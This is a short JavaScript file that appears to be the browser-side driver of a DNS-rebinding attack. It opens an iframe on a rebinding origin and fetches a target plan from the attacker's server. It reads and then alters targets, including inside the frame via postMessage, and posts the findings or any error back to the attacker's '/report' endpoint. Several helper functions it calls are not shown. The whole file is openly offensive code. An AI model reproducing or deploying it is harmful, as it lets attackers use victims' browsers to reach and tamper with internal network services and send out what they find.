// The attack: told when and against whom by the attacker's own server, which also takes the report.
"use strict";

// A frame of the name that is about to be somebody else's.
const rebound = element("iframe", { src: `${new URLSearchParams(location.search).get("rebound")}/` });

// What that frame finds when it is told to take this step.
const within_frame = (step, plan) =>
  new Promise((give) => {
    addEventListener("message", ({ data }) => data.step === step && give(data.found));
    rebound.contentWindow.postMessage({ step, plan }, "*");
  });

// One target after the other: a browser has few connections for each. Looks come first: what changes something may end
// what could be read.
async function attack() {
  await put(rebound, ["load"]);
  const plan = await (await fetch("/plan", { cache: "no-store" })).json();
  const across = [];
  for (const target of plan.look) across.push(...await look(target, plan));
  const inside = await within_frame("look", plan);
  for (const target of plan.change) across.push(...await change(target, plan));
  inside.push(...await within_frame("change", plan));
  await fetch("/report", { method: "POST", body: JSON.stringify({ across, inside }) });
}

attack().catch((error) =>
  fetch("/report", { method: "POST", body: JSON.stringify({ failed: `${error} ${error.stack}` }) }));
